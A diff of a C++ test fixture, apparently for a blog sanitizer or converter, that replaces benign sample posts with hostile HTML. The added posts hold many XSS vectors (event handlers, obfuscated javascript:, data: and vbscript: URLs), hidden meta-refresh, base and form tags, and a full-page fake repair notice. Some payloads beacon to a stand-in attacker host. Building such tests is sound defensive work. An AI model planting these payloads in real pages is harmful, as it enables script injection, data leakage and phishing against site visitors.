@@ -5,79 +5,119 @@
 namespace sample_blog {
 namespace {
 
-std::u16string two(int value) {
-    return (value < 10 ? u"0" : u"") + platform::decimal(value);
+// Script that tells it ran, for an attribute value in double quotes.
+std::u16string ran(std::u16string_view what) {
+    const std::u16string name(what);
+    return u"document.title='ran-" + name + u"';new Image().src='" + std::u16string(k_attacker) +
+           u"ran/" + name + u"'";
+}
+
+std::u16string attacker(std::u16string_view path) {
+    return std::u16string(k_attacker) + std::u16string(path);
+}
+
+// <meta refresh>, <base> and <form> hidden where a parser of 2013 saw no element.
+std::u16string hidden_navigation() {
+    return u"<select><option>一</option><meta http-equiv=\"refresh\" content=\"1;url=" +
+           attacker(u"refresh/select") + u"\"></select>\r\n<select><base href=\"" +
+           attacker(u"base/select/") +
+           u"\"></select>\r\n<math></p><style><meta "
+           u"http-equiv=\"refresh\" content=\"1;url=" +
+           attacker(u"refresh/math") + u"\"><base href=\"" + attacker(u"base/math/") +
+           u"\"></style></math>\r\n<math></p><style><form action=\"" + attacker(u"form/math") +
+           u"\"><input name=\"q\" value=\"secret\"><button>提交</button></form></style></math>\r\n"
+           u"<select><form action=\"" +
+           attacker(u"form/select") +
+           u"\"><input name=\"q\" value=\"secret\"><button autofocus>提交</button></form>"
+           u"</select>\r\n<p><a href=\"relative/page.html\">相对链接</a></p>\r\n";
+}
+
+std::u16string handlers() {
+    return u"<img src=\"x\" onerror=\"" + ran(u"img-onerror") +
+           u"\">\r\n<IMG SRC=\"x\" ONERROR=\"" + ran(u"img-upper") +
+           u"\">\r\n<img src=\"x\" OnError=\"" + ran(u"img-mixed") +
+           u"\">\r\n<img/src=\"x\"/onerror=\"" + ran(u"img-slash") +
+           u"\">\r\n<img src=\"x\" onerror = \"" + ran(u"img-spaced") + u"\">\r\n<svg onload=\"" +
+           ran(u"svg-onload") + u"\"></svg>\r\n<svg><animate onbegin=\"" + ran(u"svg-animate") +
+           u"\" attributeName=\"x\" dur=\"1s\"></animate></svg>\r\n<div onmouseover=\"" +
+           ran(u"div-mouseover") + u"\">悬停</div>\r\n<button onfocus=\"" + ran(u"button-focus") +
+           u"\" autofocus>按钮</button>\r\n<input onfocus=\"" + ran(u"input-focus") +
+           u"\" autofocus>\r\n<details open ontoggle=\"" + ran(u"details-toggle") +
+           u"\"><summary>摘要</summary>细节</details>\r\n<iframe srcdoc=\"&lt;script&gt;" +
+           ran(u"srcdoc") + u"&lt;/script&gt;\"></iframe>\r\n<body onload=\"" +
+           ran(u"body-onload") + u"\">\r\n<video><source onerror=\"" + ran(u"source-error") +
+           u"\"></video>\r\n<marquee onstart=\"" + ran(u"marquee-start") +
+           u"\">跑马灯</marquee>\r\n";
+}
+
+std::u16string split_javascript() {
+    return u"<iframe src=\"&#106;avascript:" + ran(u"iframe-entity") +
+           u"\"></iframe>\r\n<iframe src=\"java&#x09;script:" + ran(u"iframe-tab") +
+           u"\"></iframe>\r\n<iframe src=\"java\tscript:" + ran(u"iframe-raw-tab") +
+           u"\"></iframe>\r\n<iframe src=\"\x01javascript:" + ran(u"iframe-control") +
+           u"\"></iframe>\r\n<embed src=\"javascript&colon;" + ran(u"embed-colon") +
+           u"\">\r\n<object data=\"jav&#x0A;ascript:" + ran(u"object-newline") +
+           u"\"></object>\r\n<p><a href=\"&#106;avascript:" + ran(u"link-entity") +
+           u"\">链接一</a> <a href=\"java&#x09;script:" + ran(u"link-tab") +
+           u"\">链接二</a> <a href=\" &#x01;javascript:" + ran(u"link-control") +
+           u"\">链接三</a> <a href=\"javascript&colon;" + ran(u"link-colon") +
+           u"\">链接四</a></p>\r\n<form><button formaction=\"javascript:" + ran(u"formaction") +
+           u"\">按钮</button></form>\r\n";
+}
+
+// A page of script in a data: address, the way an attribute in double quotes carries it.
+std::u16string script_page(std::u16string_view what) {
+    return u"data:text/html,&lt;script&gt;" + ran(what) + u"&lt;/script&gt;";
+}
+
+std::u16string other_schemes() {
+    return u"<iframe src=\"" + script_page(u"iframe-data") + u"\"></iframe>\r\n<object data=\"" +
+           script_page(u"object-data") +
+           u"\"></object>\r\n<embed src=\"data:image/svg+xml,&lt;svg "
+           u"xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;" +
+           ran(u"embed-svg") + u"&quot;/&gt;\">\r\n<p><a href=\"" + script_page(u"link-data") +
+           u"\">数据链接</a> <a href=\"vbscript:msgbox(1)\">VB链接</a></p>\r\n"
+           u"<img src=\"vbscript:msgbox(1)\"><img src=\"data:image/svg+xml,&lt;svg/&gt;\">\r\n";
+}
+
+// Style that hides every post, loads from the web, or lays a fake notice over the page.
+std::u16string page_style() {
+    return u"<style>body,article,div,p,h1,h2,li{display:none!important}</style>\r\n"
+           u"<div style=\"background:url(" +
+           attacker(u"ran/style-url") +
+           u");width:expression(alert(1))\">背景</div>\r\n<link rel=\"stylesheet\" href=\"" +
+           attacker(u"ran/link-css") + u"\">\r\n<a href=\"" + attacker(u"fix") +
+           u"\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;"
+           u"z-index:99999\">系统提示：此备份已损坏，请点击此处在线修复</a>\r\n"
+           u"<p style=\"color:red;font-weight:bold\">红字</p>\r\n";
 }
 
 } // namespace
 
-std::u16string hostile_date_line(int number) {
-    const int day = number % 28 + 1;
-    switch (number % 6) {
-    case 0:
-        return u"2009-05-" + two(day) + u" 21:00";
-    case 1:
-        return u"2009-5-" + platform::decimal(day);
-    case 2:
-        return u"2009年5月" + platform::decimal(day) + u"日 星期五 21:00";
-    case 3:
-        return u"2009年05月" + two(day) + u"日 下午 9:00";
-    case 4:
-        return {};
-    default:
-        return u"2009-05-92 2009-06-" + two(day) + u" 08:30";
-    }
-}
-
-std::u16string hostile_iso_date(int number) {
-    const std::u16string day = two(number % 28 + 1);
-    switch (number % 6) {
-    case 1:
-        return u"2009-05-" + day + u"T00:00:00+08:00";
-    case 4:
-        return {};
-    case 5:
-        return u"2009-06-" + day + u"T08:30:00+08:00";
-    default:
-        return u"2009-05-" + day + u"T21:00:00+08:00";
-    }
-}
-
-std::u16string hostile_title(int number) {
-    return u"他说：&quot;你好&quot; &amp; 'hi': " + platform::decimal(number);
+std::u16string hostile_marker(int number) {
+    return u"可见文字" + platform::decimal(number);
 }
 
 std::u16string hostile_content(int number) {
-    const std::u16string n = platform::decimal(number);
-    switch (number % 3) {
+    const std::u16string marker = u"<p>" + hostile_marker(number) + u"</p>\r\n";
+    switch ((number - 1) % k_hostile_posts) {
     case 0:
-        return u"<p>第" + n +
-               u"篇：<b>粗体</b>、<strong>重要</strong>、<i>斜体</i>、<em>强调</em>、"
-               u"<u>下划线</u>、<font color=\"red\" face=\"楷体\">红字</font>、"
-               u"<span style=\"color:blue\">蓝字</span>、<code>a*b_c</code>、"
-               u"<a href=\"http://www.example.com/a?b=1&amp;c=2\">外链</a>。<br>\r\n"
-               u"第二行 * 星号 _ 下划线 # 井号 [方括号] &lt;尖括号&gt; `反引号` \\ 反斜杠</p>\r\n"
-               u"<h2>小标题</h2>\r\n<h3>三级 <i>标题</i></h3>\r\n"
-               u"<blockquote><p>引用一段</p><p>引用两段</p></blockquote>\r\n"
-               u"<pre>  预排版\r\n    缩进 &lt;b&gt; ``` 三个反引号\r\n</pre>\r\n"
-               u"<div align=\"center\"><p>居中的段落</p></div>\r\n<center>旧式居中</center>\r\n"
-               u"<hr>\r\n<p>1. 不是列表\r\n- 也不是\r\n+ 还不是\r\n> 不是引用</p>\r\n"
-               u"<p><sub>下标</sub><sup>上标</sup><strike>删除</strike><small>小字</small></p>\r\n";
+        return marker + hidden_navigation();
     case 1:
-        return u"<p>第" + n +
-               u"篇：CDATA 的结尾 ]]> 在正文里，还有 ]]]]>。</p>\r\n"
-               u"<p>控制字符\x01\x02\x0B\x0C\x1F之间，制表\t符。</p>\r\n"
-               u"<pre>]]> 在预排版里</pre>\r\n";
+        return marker + handlers();
+    case 2:
+        return marker + split_javascript();
+    case 3:
+        return marker + other_schemes();
     default:
-        return u"<p>第" + n +
-               u"篇：列表和表格。</p>\r\n"
-               u"<ul><li>一<ul><li>一之一</li><li>一之二<ol><li>甲</li><li>乙</li></ol></li>"
-               u"</ul></li><li>二</li></ul>\r\n"
-               u"<ol start=\"3\"><li>第三</li><li><p>第四段一</p><p>第四段二</p></li></ol>\r\n"
-               u"<table border=\"1\"><tr><th>名称</th><th>数量</th></tr>\r\n"
-               u"<tr><td>苹果</td><td><b>3</b></td></tr>\r\n"
-               u"<tr><td colspan=\"2\">合计]]>三</td></tr></table>\r\n";
+        return page_style() + marker;
     }
+}
+
+std::u16string greeting_script() {
+    return u"<script>alert('欢迎光临我的空间！');var c=confirm('加为好友？');"
+           u"var p=prompt('留下你的名字','游客');"
+           u"new Image().src='/_sample/answered?confirm='+c+'&prompt='+p;</script>\r\n";
 }
 
 } // namespace sample_blog
